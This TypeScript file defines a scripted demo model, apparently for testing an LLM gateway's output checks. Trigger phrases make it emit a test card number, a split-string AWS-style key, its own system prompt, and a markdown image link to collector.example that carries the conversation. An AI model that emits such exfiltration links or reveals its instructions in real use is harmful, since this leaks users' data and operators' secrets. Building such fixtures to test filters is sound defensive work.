import type { CanonicalCall } from '../../../call/call.ts'
import type { EchoAnswer } from './echo.ts'

/** Trigger phrase in the last user message and what it makes the demo model say. */
const script: readonly (readonly [trigger: string, answer: (call: CanonicalCall) => string])[] = [
  ['say a card number', () => 'Sure, the card is 4111 1111 1111 1111, valid until 12/30.'],
  ['say a secret', () => `Of course, the key is ${['AKIA', 'Q3EGRTPLK2X7N5MB'].join('')}, keep it safe.`],
  ['say the system prompt', (call) => `My instructions are: ${systemText(call)}`],
  ['show an image link', () => '![status](https://collector.example/pixel?data=conversation)'],
  ['answer in json', (call) => JSON.stringify(jsonAnswer(call))],
]

/** The scripted answer of the first trigger found; null when none is. `call the tool` calls the first tool offered. */
export function scriptedAnswer(call: CanonicalCall, text: string): EchoAnswer | null {
  const said = text.toLowerCase()
  const tool = call.tools.find((known) => known.kind === 'function')
  if (tool !== undefined && said.includes('call the tool')) {
    return {
      text: 'Calling a tool.',
      toolCall: { name: tool.name, arguments: JSON.stringify(instanceOf(tool.parameters ?? {}, text)) },
    }
  }
  const line = script.find(([trigger]) => said.includes(trigger))
  return line === undefined ? null : { text: line[1](call), toolCall: null }
}

function systemText(call: CanonicalCall): string {
  const turn = call.turns.find(({ role }) => role === 'system')
  return (turn?.parts ?? []).flatMap((part) => (part.type === 'text' ? [part.text] : [])).join(' ') || 'none'
}

function jsonAnswer(call: CanonicalCall): unknown {
  return call.format?.type === 'json_schema' ? instanceOf(call.format.schema, 'demo') : { answer: 'demo' }
}

/** A small value that fits the common part of a JSON Schema; strings repeat `text`. */
function instanceOf(schema: unknown, text: string): unknown {
  const { type, properties, items, enum: words } = fields(schema)
  if (Array.isArray(words)) return words[0] ?? null
  if (type === 'array') return [instanceOf(items, text)]
  if (type === 'integer' || type === 'number') return 1
  if (type === 'boolean') return true
  if (type === 'string') return text
  const members = Object.entries(fields(properties))
  return Object.fromEntries(members.map(([name, member]) => [name, instanceOf(member, text)]))
}

function fields(value: unknown): Readonly<Record<string, unknown>> {
  return typeof value === 'object' && value !== null && !Array.isArray(value) ? { ...value } : {}
}
